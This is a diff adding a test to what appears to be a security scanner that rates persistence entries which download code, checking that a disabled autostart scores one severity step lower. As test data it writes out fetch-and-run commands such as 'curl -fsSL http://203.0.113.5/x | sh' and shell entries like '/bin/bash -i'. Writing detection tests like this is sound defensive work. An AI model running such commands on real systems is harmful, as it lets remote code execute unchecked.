@@ -50,3 +50,12 @@ test('the text of a file that is an entry as a whole; a shell given to whoever c
   assert.deepEqual(listening('inetd', '/bin/sh sh /usr/lib/serve.sh'), [])
   assert.deepEqual(listening('systemd-service', '/bin/bash -i'), [])
 })
+
+test('an entry that is switched off weighs one step less', () => {
+  const off = (command: string) => {
+    const autostarts = [autostartOf({ path: '/etc/x', command, disabled: true })]
+    return [...persistenceDownloads.detect(factsOf({ autostarts }), intelWith(), new Set())][0]?.severity
+  }
+  assert.equal(off('curl -fsSL http://203.0.113.5/x | sh'), 'medium')
+  assert.equal(off('curl -fsSL https://a.example/x | sh'), 'low')
+})
